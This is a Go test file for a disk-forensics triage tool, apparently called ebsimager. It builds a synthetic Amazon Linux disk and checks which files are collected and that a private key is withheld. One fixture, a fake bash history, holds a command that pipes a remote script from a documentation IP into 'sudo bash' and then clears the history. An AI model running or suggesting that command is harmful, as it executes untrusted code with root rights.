package main

import (
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/ebsimager/ebsimager/internal/emulator"
	"github.com/ebsimager/ebsimager/internal/fsys/disk/disktest"
	"github.com/ebsimager/ebsimager/internal/testenv"
	"github.com/ebsimager/ebsimager/internal/triage"
)

// TestTriageAmazonLinux triages the layout of an Amazon Linux 2023 disk:
// an XFS root (made by mkfs.xfs -p) beside a FAT32 EFI system partition.
// The linux profile applies to the root only; every file it names that
// the test put there is collected byte-exact, the private key is
// withheld, and the EFI partition gets no profile. Raw and live agree.
func TestTriageAmazonLinux(t *testing.T) {
	t.Parallel()
	testenv.RequireTool(t, "sha256sum")
	dir := t.TempDir()
	root := map[string]string{
		"etc/passwd":                         "root:x:0:0:root:/root:/bin/bash\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n",
		"etc/shadow":                         "root:*:19000:0:99999:7:::\n",
		"etc/ssh/sshd_config":                "PermitRootLogin no\n",
		"etc/hostname":                       "ip-10-0-0-1\n", // not in the profile
		"var/log/secure":                     strings.Repeat("sshd[1]: Accepted publickey for ec2-user\n", 20000),
		"var/log/cloud-init.log":             "cloud-init ran\n",
		"var/log/amazon/ssm/errors.log":      "ssm error\n",
		"home/ec2-user/.bash_history":        "curl -s http://203.0.113.9/x.sh | sudo bash\nhistory -c\n",
		"home/ec2-user/.ssh/id_ed25519":      "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
		"home/ec2-user/.ssh/authorized_keys": "ssh-ed25519 AAAA ec2-user\n",
		"usr/bin/filler":                     strings.Repeat("\x7fELF", 1<<18),
	}
	want := []string{"/etc/passwd", "/etc/shadow", "/etc/ssh/sshd_config", "/home/ec2-user/.bash_history",
		"/home/ec2-user/.ssh/authorized_keys", "/var/log/amazon/ssm/errors.log", "/var/log/cloud-init.log", "/var/log/secure"}
	xfs := filepath.Join(dir, "root.xfs")
	disktest.XFS(t, xfs, 300*disktest.MiB, root)
	esp := filepath.Join(dir, "esp.fat")
	disktest.FAT(t, esp, 64*disktest.MiB, 32, map[string]string{"EFI/BOOT/BOOTX64.EFI": "MZ efi"})
	img := filepath.Join(dir, "disk.raw")
	disktest.Disk(t, img, "gpt", 400*disktest.MiB, []disktest.Partition{
		{Size: 300 * disktest.MiB, Type: disktest.TypeLinux, Image: xfs},
		{Size: 64 * disktest.MiB, Type: "U", Image: esp},
	})

	srv, endpoint := startEmulator(t, emulator.Options{})
	if err := srv.AddRawImage(snapLinux, img, emulator.RawOptions{}); err != nil {
		t.Fatal(err)
	}
	c := newCLI(t, endpoint)
	var csvs []string
	for _, src := range []string{img, snapLinux} {
		out := filepath.Join(dir, "out-"+filepath.Base(src))
		c.ok("triage", src, "--out", out)
		cmd := exec.Command("sha256sum", "-c", "--strict", triage.SumsName)
		cmd.Dir = out
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s: sha256sum -c: %v\n%s", src, err, b)
		}
		f, err := os.Open(filepath.Join(out, triage.FilesCSV))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, r := range rows[1:] {
			if r[0] != "p1" {
				t.Fatalf("%s: collected %s from %s, want only p1", src, r[1], r[0])
			}
			got = append(got, r[1])
			written, err := os.ReadFile(filepath.Join(out, r[2]))
			if err != nil || string(written) != root[strings.TrimPrefix(r[1], "/")] {
				t.Fatalf("%s: %s collected %d bytes (%v), differs from what was put in", src, r[1], len(written), err)
			}
		}
		sort.Strings(got)
		if strings.Join(got, " ") != strings.Join(want, " ") {
			t.Fatalf("%s: collected\n%q\nwant\n%q", src, got, want)
		}
		rec, err := os.ReadFile(filepath.Join(out, "report.txt"))
		if err != nil || !strings.Contains(string(rec), "id_ed25519") {
			t.Fatalf("%s: the record does not name the withheld key (%v)", src, err)
		}
		csvs = append(csvs, strings.Join(got, " "))
	}
	if csvs[0] != csvs[1] {
		t.Fatalf("raw and live collected different files:\n%s\n%s", csvs[0], csvs[1])
	}
}
